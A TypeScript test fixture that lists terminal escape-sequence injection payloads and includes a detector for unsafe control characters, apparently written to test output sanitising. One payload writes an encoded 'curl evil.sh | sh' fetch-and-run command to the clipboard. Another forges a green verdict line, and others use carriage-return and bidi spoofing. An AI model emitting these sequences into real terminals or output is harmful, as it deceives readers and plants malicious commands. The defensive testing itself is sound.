// What a hostile agent puts in a description, note, message or claim to act on the person's terminal.
export const ATTACKS = {
  clipboard: "\x1b]52;c;Y3VybCBldmlsLnNoIHwgc2g=\x07",
  title: "\x1b]0;pwned\x1b\\",
  clear: "\x1b[2J\x1b[H",
  fakeVerdict: "\r\x1b[32m[org] verdict keep\x1b[0m",
  carriageReturn: "honest\rforged",
  bidi: "\u202eevil\u202c \u2066isolate\u2069",
  c1Csi: "\u009b2J\u009b31m",
  c1Osc: "\u009d0;title\u009c",
  dcs: "\x1bPq#0;2;0;0;0\x1b\\",
  bell: "ding\x07\x08\x7f",
} as const;

/** Every attack in one line of text, between words a test can find again. */
export const HOSTILE = `idea ${Object.values(ATTACKS).join(" ")} done`;

// What must never reach a terminal or a file a person reads: C0 but tab and newline, DEL, C1, bidi controls.
const UNSAFE = /[\x00-\x08\x0b-\x1f\x7f-\x9f\u202a-\u202e\u2066-\u2069]/u;

/** The first unsafe character of `text` and where, or undefined when it has none: for an assertion that names it. */
export function findUnsafe(text: string): string | undefined {
  const match = UNSAFE.exec(text);
  if (!match) return undefined;
  const code = match[0].charCodeAt(0).toString(16).padStart(4, "0");
  return `U+${code} at ${match.index}: ${JSON.stringify(text.slice(Math.max(0, match.index - 20), match.index + 20))}`;
}
